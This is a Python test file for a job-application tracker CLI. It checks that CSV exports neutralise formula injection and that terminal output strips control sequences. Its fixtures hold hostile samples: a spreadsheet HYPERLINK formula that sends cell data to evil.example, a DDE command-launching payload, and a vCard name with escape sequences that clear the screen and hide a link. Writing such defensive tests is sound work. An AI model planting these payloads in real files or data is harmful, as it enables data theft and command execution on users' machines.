"""Names typed, pasted or imported by anyone are harmless where they end up: CSV exports
open in a spreadsheet without running anything, and the terminal shows user data without
its control sequences, through the real command line."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
HOSTILE_CONTACT = "=cmd|' -C calc'!A0"


def _table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_csv_export_neutralises_formulas_and_import_reads_them_back(
        followup: Any, tmp_path: Path) -> None:
    followup("init", "--timezone", "America/New_York", "--country", "US")
    added = followup("add", "--company", HOSTILE_COMPANY, "--role", "+Engineer",
                     "--interviewed", "2026-12-23T15:00", "--interviewer",
                     f"{HOSTILE_CONTACT}, @Manager", "--json").json()
    files = {}
    for table in ("applications", "contacts", "history"):
        files[table] = tmp_path / f"{table}.csv"
        followup("export", "--csv", "--table", table, "--output", str(files[table]))
    (app,) = _table(files["applications"])
    assert app["company"] == "'" + HOSTILE_COMPANY and app["role"] == "'+Engineer"
    (contact,) = _table(files["contacts"])
    assert contact["name"] == "'" + HOSTILE_CONTACT and contact["title"] == "'@Manager"
    for table in files.values():
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)

    raw = followup("export", "--csv", "--raw-csv").stdout
    (raw_app,) = csv.DictReader(io.StringIO(raw))
    assert raw_app["company"] == HOSTILE_COMPANY

    env = {"FOLLOWUP_DB": str(tmp_path / "elsewhere.db")}
    followup("init", "--timezone", "America/New_York", "--country", "US", env=env)
    followup("import", str(files["applications"]), "--contacts", str(files["contacts"]),
             "--history", str(files["history"]), env=env)
    shown = followup("show", added["id"], "--json", env=env).json()
    assert shown["company"] == HOSTILE_COMPANY and shown["role"] == "+Engineer"
    assert [(c["name"], c["title"]) for c in shown["contacts"]] == [(HOSTILE_CONTACT, "@Manager")]
    assert json.dumps(shown)  # the JSON output is exact


# A name from a business card that would clear the screen, retitle the window, turn the
# text red and hide a link, in 7-bit and 8-bit (C1) forms.
CARD_NAME = "Eve \x1b[2J\x1b]0;owned\x07\x1b[31mMallory\x1b]8;;http://evil.example\x1b\\\u009b0m"
CARD = ("BEGIN:VCARD\r\nVERSION:3.0\r\n"
        f"FN:{CARD_NAME}\r\nTITLE:Head of \x1b[5mHiring\r\nEND:VCARD\r\n")
CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]


def _clean(text: str) -> bool:
    return not any(c in text for c in CONTROLS)


def test_terminal_output_strips_control_sequences_from_user_data(
        followup: Any, tmp_path: Path) -> None:
    followup("init", "--timezone", "America/New_York", "--country", "US")
    company = "Acme\x1b[8m hidden\x1b[0m"
    added = followup("add", "--company", company, "--role", "Engineer\u009b2J",
                     "--interviewed", "2026-12-23T15:00", "--interviewer", "Jane \x1b[1mDoe")
    assert _clean(added.stdout) and "Acme hidden" in added.stdout
    app = followup("list", "--json").json()[0]["id"]
    cards = tmp_path / "card.vcf"
    cards.write_text(CARD, encoding="utf-8", newline="")
    imported = followup("import", str(cards), "--app", app, "--role", "reference")
    assert _clean(imported.stdout + imported.stderr)

    outputs = {
        "show": followup("show", app),
        "list": followup("list"),
        "agenda": followup("agenda", "--days", "30"),
        "log": followup("log", app, "thank_you_sent", "--contact", "Jane \x1b[1mDoe"),
    }
    for command, result in outputs.items():
        assert _clean(result.stdout + result.stderr), (command, result.stdout)
    shown = outputs["show"].stdout
    assert "Eve Mallory" in shown and "Head of Hiring" in shown and "Acme hidden" in shown
    assert "Jane Doe" in outputs["log"].stdout and "Acme hidden" in outputs["agenda"].stdout

    # --json stays exact: the names as they were given, escaped as JSON escapes them.
    exact = followup("show", app, "--json").json()
    assert exact["company"] == company and exact["role"] == "Engineer\u009b2J"
    assert {c["name"] for c in exact["contacts"]} == {"Jane \x1b[1mDoe", CARD_NAME}
